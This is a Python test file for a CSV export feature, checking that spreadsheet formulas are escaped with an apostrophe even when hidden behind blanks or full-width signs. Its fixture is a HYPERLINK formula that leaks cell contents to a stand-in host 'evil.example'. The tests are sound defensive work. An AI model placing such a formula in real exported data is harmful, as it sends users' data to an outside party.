"""CSV export: a formula is escaped even when hidden behind what spreadsheets skip (space,
tab, no-break space, byte-order mark) or written with full-width signs (＝＋－＠)."""

from __future__ import annotations

import csv
import io

import pytest

from handoff.ops.export import CSV_HEADER, csv_lines

FORMULA = 'HYPERLINK("http://evil.example/?leak="&A1,"klik")'


def exported(comment: str, message: str) -> dict[str, str]:
    record = {column: None for column in CSV_HEADER}
    record.update(conversation_id="c1", ces_comment=comment,
                  messages=[{"created_at": "2026-11-20T03:00:00Z", "sender": "customer",
                             "agent": None, "text": message}])
    rows = list(csv.reader(io.StringIO("".join(csv_lines(iter([record]))))))
    return dict(zip(rows[0], rows[1], strict=True))


@pytest.mark.parametrize("lead", ["", " ", "  ", "\t", "\u00a0", "\ufeff", "\u3000",
                                  " \ufeff\u00a0"],
                         ids=["none", "space", "spaces", "tab", "nbsp", "bom", "ideographic",
                              "mixed"])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
def test_formula_signs_behind_blanks_get_an_apostrophe(lead, sign):
    cell = exported(lead + sign + FORMULA, "halo")["ces_comment"]
    assert cell == "'" + lead + sign + FORMULA


@pytest.mark.parametrize("text", ["Terima kasih, sangat membantu", " 5 bintang", "\u00a0ok",
                                  "Rp 1.200.000", "ORD-123456"])
def test_ordinary_text_is_left_as_typed(text):
    assert exported(text, "halo")["ces_comment"] == text


def test_the_transcript_cell_starts_with_a_timestamp_so_it_is_never_a_formula():
    cell = exported("ok", "=1+1")["transcript"]
    assert cell.startswith("2026-11-20T03:00:00Z customer: =1+1")
